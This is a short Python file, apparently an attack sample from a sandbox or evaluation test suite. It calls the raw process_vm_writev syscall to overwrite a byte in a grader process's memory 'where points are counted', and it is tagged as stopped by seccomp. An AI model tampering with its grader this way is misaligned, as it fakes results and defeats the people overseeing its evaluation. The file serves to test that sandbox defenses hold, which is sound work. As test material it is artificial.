"""Writes into the grader's memory, where points are counted."""

import ctypes
import struct

from raw_syscall import syscall

STOPPED_BY = "seccomp"


def attack(target):
    text = ctypes.create_string_buffer(b"C")
    ours = struct.pack("PN", ctypes.addressof(text), 1)
    theirs = struct.pack("PN", target["address"], 1)
    return syscall("process_vm_writev", target["grader"], ours, 1, theirs, 1, 0)
